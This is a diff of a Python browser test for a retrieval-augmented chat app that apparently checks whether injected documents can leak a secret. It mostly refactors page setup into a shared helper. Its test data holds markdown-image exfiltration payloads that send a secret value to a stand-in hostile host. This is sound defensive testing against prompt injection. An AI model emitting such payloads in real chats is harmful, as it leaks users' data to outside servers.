@@ -19,8 +19,8 @@ from rag.embedding.load import DEFAULT_FOLDER
 from tests.app.test_egress import INDEX, addresses, traced
 from tests.browser.conftest import ANNOUNCEMENT
 from tests.browser.hostile_markup import EVIL
-from tests.browser.test_every_field import untouched
-from tests.browser.test_markup import ANSWER, COMPOSER, WATCH
+from tests.browser.test_markup import ANSWER, COMPOSER
+from tests.browser.watching import SLOW_MS, untouched, watched_page
 from tests.conftest import ROOT
 from tests.figures import Figure
 
@@ -36,7 +36,6 @@ FACT = "The harbour ferry to Pellworm leaves Nordstrand at half past seven every
 QUESTION = "When does the ferry to Pellworm leave Nordstrand?"
 SECRET = "zanzibar-otter-4711"
 URL = f"{EVIL}/?d={SECRET}"
-SLOW_MS = 60_000
 WAYS = (
     f"![x]({URL})",
     f'![x]({URL} "title")',
@@ -133,15 +132,8 @@ def requested() -> list[str]:
 
 @pytest.fixture
 def page(browser: Browser, address: str, requested: list[str]) -> Iterator[Page]:
-    context = browser.new_context(locale="en-US")
-    context.add_init_script(f"({WATCH})()")
-    page = context.new_page()
-    page.set_default_timeout(SLOW_MS)
-    page.on("request", lambda request: requested.append(request.url))
-    page.goto(address)
-    page.wait_for_selector(COMPOSER)
-    yield page
-    context.close()
+    with watched_page(browser, address, requested) as page:
+        yield page
 
 
 def test_no_document_gets_a_secret_out_though_the_model_obeys(
